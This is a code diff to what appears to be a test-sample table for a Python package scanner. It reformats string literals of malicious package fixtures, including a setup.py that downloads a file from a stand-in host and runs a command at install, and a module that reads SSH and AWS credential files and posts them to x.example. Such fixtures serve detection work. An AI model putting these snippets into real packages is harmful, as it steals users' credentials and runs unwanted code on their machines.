@@ -29,7 +29,8 @@ SAMPLES: dict[str, Artifact] = {
     "plugin import": wheel({"demo/__init__.py": "import importlib, os\nimportlib.import_module(os.environ['P'])\n"}),
     "program from PATH, fetched": sdist(
         {
-            "setup.py": "import os, urllib.request\nurllib.request.urlretrieve('https://x.example/t', 't')\nos.system('db2cli validate')\n"
+            "setup.py": "import os, urllib.request\n"
+            "urllib.request.urlretrieve('https://x.example/t', 't')\nos.system('db2cli validate')\n"
         }
     ),
     "clipboard": wheel({"demo/__init__.py": "import pyperclip\npyperclip.copy(pyperclip.paste())\n"}),
@@ -39,7 +40,8 @@ SAMPLES: dict[str, Artifact] = {
     "credential stores sent": wheel(
         {
             "demo/__init__.py": "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-            "a = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('https://x.example', data=k + a)\n"
+            "a = open(os.path.expanduser('~/.aws/credentials')).read()\n"
+            "requests.post('https://x.example', data=k + a)\n"
         }
     ),
     "two secret variables sent": wheel(
